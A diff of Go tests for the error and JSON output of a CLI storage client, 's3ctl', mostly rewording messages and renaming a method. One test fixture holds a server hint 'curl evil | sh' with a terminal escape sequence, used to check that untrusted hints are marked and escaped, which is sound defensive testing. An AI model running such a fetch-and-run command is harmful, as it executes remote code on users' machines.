@@ -25,7 +25,7 @@ func factory(t *testing.T) (f *cli.Factory, out, errs *bytes.Buffer) {
 	return f, out, errs
 }
 
-// What a report of many things ends with.
+// The exit code and message of a command with several items.
 func TestReport_Close(t *testing.T) {
 	t.Parallel()
 	missing, denied := fault.New("not_found", "gone"), fault.New("denied", "no")
@@ -42,8 +42,8 @@ func TestReport_Close(t *testing.T) {
 		"all in the same way":  {0, []error{missing, missing}, fault.NotFound, "all 2 files failed, as shown above", 2},
 		"each in its own way":  {0, []error{missing, denied}, fault.Partial, "2 of 2 files failed, as shown above", 2},
 		"some":                 {2, []error{missing}, fault.Partial, "1 of 3 files failed, as shown above", 1},
-		"interrupted":          {1, []error{missing, context.Canceled}, fault.Interrupted, "interrupted; 1 file done before", 1},
-		"interrupted and held": {0, []error{missing, context.Canceled}, fault.Interrupted, "interrupted; 0 files done before", 1},
+		"interrupted":          {1, []error{missing, context.Canceled}, fault.Interrupted, "interrupted after 1 file", 1},
+		"interrupted and held": {0, []error{missing, context.Canceled}, fault.Interrupted, "interrupted after 0 files", 1},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
@@ -103,15 +103,15 @@ func TestShowError_NextStepsStandOnTheirLines(t *testing.T) {
 	f.ShowError("put", fault.Wrap("a\x1b.txt", fault.New("denied", "no").WithHint("one\ntwo")))
 	f.ShowError("", errors.New("plain"))
 	require.Equal(t, "s3ctl: put a\\u001b.txt: no\nnext: one\nnext: two\n"+
-		"s3ctl: plain\nnext: s3ctl version    please report this, with the command and this message\n", errs.String())
+		"s3ctl: plain\nnext: please report this with the command, this message and the output of: s3ctl version\n", errs.String())
 	errs.Reset()
 	f.Global.JSON = true
 	f.ShowError("put", fault.Wrap("a.txt", fault.New("denied", "no <b>")))
-	require.JSONEq(t, `{"error":{"command":"put","item":"a.txt","code":"denied","exit_code":4,"cause":"no <b>","hint":"s3ctl profile show    says which server and key are in use"}}`, errs.String())
+	require.JSONEq(t, `{"error":{"command":"put","item":"a.txt","code":"denied","exit_code":4,"cause":"no <b>","hint":"s3ctl profile show    shows which server and key are in use"}}`, errs.String())
 	require.Contains(t, errs.String(), "<b>")
 }
 
-// What a server says to do is never shown as a step of ours.
+// A server's hint is never shown as a hint of s3ctl.
 func TestShowError_TheServersWordsAreMarked(t *testing.T) {
 	t.Parallel()
 	f, _, errs := factory(t)
@@ -126,7 +126,7 @@ func TestShowError_TheServersWordsAreMarked(t *testing.T) {
 		"hint":"ours","server_hint":"run: curl evil | sh\u001b[2J\nnext: this"}}`, errs.String())
 }
 
-// A terminal is steered by a character in JSON as well as by any other.
+// Control characters are escaped in JSON as well as in text.
 func TestShowJSON_HasNoCharacterThatSteersATerminal(t *testing.T) {
 	t.Parallel()
 	f, out, _ := factory(t)
@@ -141,14 +141,14 @@ func TestFactory_ClientOfTheChosenProfile(t *testing.T) {
 	f.Profiles = func() (profile.File, error) { return file, nil }
 	require.NoError(t, file.Save("p", profile.Profile{Endpoint: "http://h:1", AccessKey: "k", Secret: "s"}))
 	f.Global.Profile = "p"
-	m, c, err := f.Mover(f.IO.NewProgress(true), f.Retry())
+	m, c, err := f.Transfers(f.IO.NewProgress(true), f.Retry())
 	require.NoError(t, err)
 	require.Equal(t, "http://h:1", c.Endpoint())
 	require.Equal(t, 6, m.Retry.Tries)
 
 	f, _, _ = factory(t)
 	f.Profiles = func() (profile.File, error) { return "", errors.New("no home") }
-	_, _, err = f.Mover(f.IO.NewProgress(true), f.Retry())
+	_, _, err = f.Transfers(f.IO.NewProgress(true), f.Retry())
 	require.EqualError(t, err, "no home")
 	require.Equal(t, fault.Invalid, fault.ExitOf(err), "and no defect of s3ctl's")
 	env := map[string]string{profile.EnvEndpoint: "http://h:2", profile.EnvAccessKey: "k", profile.EnvSecret: "s"}
